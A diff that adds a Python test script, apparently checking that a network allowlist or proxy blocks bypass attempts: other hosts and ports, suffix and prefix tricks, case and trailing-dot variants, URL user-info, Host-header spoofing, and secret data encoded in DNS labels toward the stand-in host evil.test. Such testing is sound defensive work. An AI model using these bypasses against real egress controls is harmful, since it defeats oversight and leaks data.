@@ -1,0 +1,14 @@
+from attack import *
+from asking import lured, plainly, through
+
+port = lures["tcpPort"]
+attempt("connect-other-host", lambda: through("evil.test:443"))
+attempt("plain-other-host", lambda: plainly("http://evil.test/"))
+attempt("other-port", lambda: through(f"127.0.0.1:{port}"))
+attempt("suffix", lambda: through("notallowed.test:443"))
+attempt("prefix", lambda: through("allowed.test.evil.test:443"))
+attempt("case-and-dot", lambda: through("EVIL.test.:443"))
+attempt("data-labels", lambda: through("c2VjcmV0.allowed.test.data.evil.test:443"))
+attempt("user-info", lambda: plainly("http://allowed.test@evil.test/"))
+attempt("listed-in-path", lambda: plainly("http://evil.test/allowed.test", "allowed.test"))
+attempt("listed-in-host-header", lambda: plainly("http://evil.test/", "allowed.test"))
